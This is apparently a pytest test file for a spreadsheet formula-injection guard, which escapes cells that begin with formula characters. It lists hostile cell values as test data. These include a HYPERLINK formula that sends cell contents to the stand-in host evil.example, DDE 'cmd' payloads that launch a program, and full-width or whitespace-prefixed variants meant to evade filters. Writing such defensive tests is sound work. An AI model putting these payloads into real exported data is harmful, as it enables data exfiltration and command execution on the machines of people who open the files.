"""The one spreadsheet guard: every formula start is caught, numbers and plain text are not."""

from __future__ import annotations

import pytest

from beltroad.spreadsheet import FORMULA_STARTS, guard_cell, guard_row

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "|cmd /C calc",
    '\uff1dHYPERLINK("http://evil.example")',  # full-width =
    "\uff0b1",  # full-width +
    "\uff0d1+1",  # full-width -
    "\uff20SUM(A1)",  # full-width @
    "\uff5ccmd",  # full-width |
    "\ufe66cmd",  # small =
    "  =1+1",  # leading spaces that an importer may trim
    "\u3000=1+1",  # ideographic space
    "-",
    "+",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_every_formula_start_is_guarded(value: str) -> None:
    assert guard_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value",
    [-5000, -5000.5, 0, 3, None, True, "Port of Gwadar", "", "   ", "a=b", "1-2", "x|y"],
)
def test_numbers_and_plain_text_are_untouched(value: object) -> None:
    assert guard_cell(value) == value


@pytest.mark.parametrize("value", ["-5000", "-1.5", "+3", "-1.5e3", " -7 ", ".5", "-0."])
def test_text_that_is_exactly_a_number_stays_a_number(value: str) -> None:
    assert guard_cell(value) == value


def test_every_listed_start_is_caught() -> None:
    for start in FORMULA_STARTS:
        assert guard_cell(start + "x").startswith("'"), repr(start)


def test_guard_row() -> None:
    assert guard_row(["=1", -1, "ok"]) == ["'=1", -1, "ok"]
